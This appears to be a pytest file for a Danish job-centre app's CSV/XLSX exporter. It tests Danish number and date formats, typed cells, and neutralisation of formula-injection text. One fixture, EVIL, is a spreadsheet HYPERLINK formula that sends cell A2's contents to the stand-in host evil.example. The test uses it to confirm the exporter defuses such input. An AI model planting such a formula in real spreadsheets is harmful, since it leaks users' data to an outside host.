"""The one writer of every CSV and XLSX: Danish Excel, typed cells, no formulas (issue 10 #1, 13 #5)."""

import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from jobcenter import exports

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"klik")'


@pytest.mark.parametrize("text", ["=1+1", "+45 1234", "-2+3", "@SUM(A1)", "\tx", "\rx", EVIL])
def test_text_starting_with_a_formula_character_is_neutralised(text):
    assert exports.neutralise(text) == "'" + text
    assert exports.csv_cell(text) == "'" + text


def test_harmless_text_and_negative_numbers_stay_as_they_are():
    assert exports.neutralise("Ærø Østergård") == "Ærø Østergård"
    assert exports.csv_cell(-12) == "-12"
    assert exports.csv_cell(-1.5) == "-1,5"


def test_danish_csv_has_bom_semicolons_decimal_comma_and_danish_dates():
    text = exports.csv_text(["Navn", "Frist", "Timer"], [["Åse Ø", date(2027, 3, 1), 12.5]])
    assert text.startswith("\ufeff")
    lines = text.lstrip("\ufeff").splitlines()
    assert lines == ["Navn;Frist;Timer", "Åse Ø;01.03.2027;12,5"]


def test_plain_csv_variant_for_machines():
    text = exports.csv_text(["a", "b"], [[date(2027, 3, 1), 1.5]], danish=False)
    assert not text.startswith("\ufeff")
    assert text.splitlines() == ["a,b", "2027-03-01,1.5"]


def test_xlsx_has_date_cells_number_formats_and_no_formulas():
    body = exports.xlsx_bytes(
        ["Navn", "Frist", "Antal", "Timer", "Kr.", "Tidspunkt"],
        [[EVIL, date(2027, 3, 1), 1234, 12.5, Decimal("230000"), datetime(2027, 3, 1, 9, 30)]],
    )
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    name, due, count, hours, amount, at = sheet[2]
    assert name.data_type == "s" and name.value == "'" + EVIL
    assert isinstance(due.value, datetime) and due.value.date() == date(2027, 3, 1)
    assert due.is_date and due.number_format == "DD.MM.YYYY"
    assert count.value == 1234 and count.number_format == "#,##0"
    assert hours.value == 12.5 and hours.number_format == "#,##0.0"
    assert amount.value == 230000 and amount.number_format == "#,##0"
    assert at.is_date and at.value == datetime(2027, 3, 1, 9, 30)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
